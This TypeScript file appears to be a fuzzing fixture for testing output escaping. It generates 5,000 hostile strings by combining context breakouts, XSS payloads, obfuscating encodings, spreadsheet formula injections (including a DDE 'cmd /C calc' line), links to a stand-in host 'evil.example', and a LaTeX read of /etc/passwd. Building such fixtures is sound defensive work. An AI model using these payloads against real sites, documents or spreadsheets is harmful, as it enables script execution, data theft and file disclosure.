// Texts of a record that is against its readers: ways out of where a text stands × what is let in × how it is written.

const RUN = 'globalThis.executed=1';

/** End what may stand around a text: a value, an element, a comment, a script. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '` ',
  '</span></a></p></div>',
  '--><!-- x -->',
  ']]>',
  '</title></style></script></textarea></noscript>',
  '\\"});',
  '</x-host></template>',
];

/** Each sets `executed` where it is taken for anything but text, or leaves an element that we never make. */
const LET_IN = [
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>*{display:none}@import "//evil.example/x"</style>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}" autofocus>x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<x-element style="animation:x" onanimationstart="${RUN}">x</x-element>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a><script>${RUN}</script></svg>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<q " autofocus onfocus="${RUN}" onmouseover="${RUN}" x="`,
  `<q x>{{constructor.constructor("${RUN}")()}}\${${RUN}}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
];

const inEntities = (text: string) => text.replace(/[<>"'&]/g, (sign) => `&#${sign.charCodeAt(0)};`);
const inCapitals = (text: string) => text.replace(/<\/?[a-z-]+/g, (tag) => tag.toUpperCase());

const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text,
  inCapitals,
  (text) => text.replace(/<([a-z-]+)/g, '<$1/'),
  (text) => text.replace(/<([a-z-]+)/g, '<$1\t\n'),
  (text) => text.replace(/</g, '<\u0000'),
  inEntities,
  (text) => inEntities(inEntities(text)),
  encodeURIComponent,
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => `\u202e${text}\u2069\u202c`,
  (text) => `\ufeff\u200b${text}\u200d`,
  (text) => `=HYPERLINK("//evil.example","${text}")`,
  (text) => `+cmd|' /C calc'!A0${text}`,
  (text) => `\t@SUM(1)${text}`,
  (text) => ` -1+1${text}\r\n=2`,
  (text) => `${'a'.repeat(300)}${text}`,
  (text) => `\u0627\u0644${text}\u05d0`,
  (text) => `](javascript:${RUN}) ${text} [x]: <javascript:${RUN}>`,
  (text) => `}} \\input{/etc/passwd} ${text}`,
  (text) => `\ud800${text}\u{e0001}`,
];

/** 5,000 different ones. */
export function hostileTexts(): string[] {
  return WAYS_OUT.flatMap((out) => LET_IN.flatMap((one) => WRITTEN.map((written) => out + written(one))));
}
